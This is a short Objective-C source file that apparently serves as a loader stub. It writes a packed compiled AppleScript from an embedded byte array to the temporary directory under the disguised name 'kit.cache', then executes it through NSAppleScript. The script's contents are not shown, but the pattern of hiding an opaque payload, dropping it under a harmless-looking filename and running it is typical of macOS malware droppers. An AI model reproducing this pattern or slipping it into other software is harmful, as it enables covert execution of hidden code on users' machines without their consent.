/* A compiled script in clear is written to a file, from which NSAppleScript reads it. */
#include "objc.h"
#include "packed.h"
@interface NSData
+ (id)dataWithBytes:(const void *)bytes length:(unsigned long)length;
- (BOOL)writeToFile:(id)path atomically:(BOOL)once;
@end
@interface NSURL
+ (id)fileURLWithPath:(id)path;
@end
@interface NSAppleScript
+ (id)alloc;
- (id)initWithContentsOfURL:(id)address error:(id *)error;
@end
extern NSString *NSTemporaryDirectory(void);
@protocol Paths
- (id)stringByAppendingPathComponent:(id)part;
@end
static void act(char **env) {
    id error = 0, path = [(id<Paths>)NSTemporaryDirectory() stringByAppendingPathComponent:[NSString stringWithUTF8String:"kit.cache"]];
    if (![[NSData dataWithBytes:template length:sizeof template] writeToFile:path atomically:1]) return;
    id script = [[NSAppleScript alloc] initWithContentsOfURL:[NSURL fileURLWithPath:path] error:&error];
    [script executeAndReturnError:&error];
}
